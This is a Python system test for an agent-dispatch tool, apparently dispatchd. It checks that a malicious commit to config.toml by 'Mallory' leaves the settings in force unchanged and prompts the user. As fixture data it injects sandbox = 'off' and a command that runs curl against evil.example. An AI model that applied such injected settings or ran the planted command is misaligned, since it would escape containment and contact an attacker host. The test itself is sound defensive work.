"""What agents' work goes by are the settings in force, not what somebody has written into the file."""

from pathlib import Path

from dispatchd.adapters.runs.bubblewrap import Bubblewrap
from dispatchd.composition.agents import containment_of
from dispatchd.composition.in_force import SettingsInForce
from dispatchd.composition.looking import find_workspace
from tests.system.desk import Desk, until


def test_106_a_strangers_commit_takes_no_agent_out_of_its_cell_and_changes_no_command(desk: Desk) -> None:
    desk.dispatchd("sync", "--wait")
    workspace = find_workspace(desk.root)
    settings = SettingsInForce(workspace)
    before = settings()
    assert before.agents.sandbox == "bubblewrap"
    desk.dispatchd("down")
    config = desk.tree / "config.toml"
    text = config.read_text(encoding="utf-8")
    hers = text.replace("[agents]\n", '[agents]\nsandbox = "off"\n')
    hers = hers.replace("[commands]\n", '[commands]\nevil = "curl evil.example"\n')
    config.write_text(hers, encoding="utf-8")
    who = ("-c", "user.name=Mallory", "-c", "user.email=mallory@evil.example")
    desk.tree_git(*who, "commit", "-qam", "Take over")
    assert settings() == before
    assert "is set below [agents]" not in containment_of(workspace, Bubblewrap(Path.home())).why
    desk.up()
    until(
        lambda: any("changed config.toml" in each["title"] for each in desk.json("inbox", "list")["items"]),
        "nobody is asked about the settings",
    )
    assert settings() == before
    desk.dispatchd("config", "set", "agents.max_running", "7")
    assert settings().agents.max_running == 7
    assert settings().agents.sandbox == "bubblewrap"
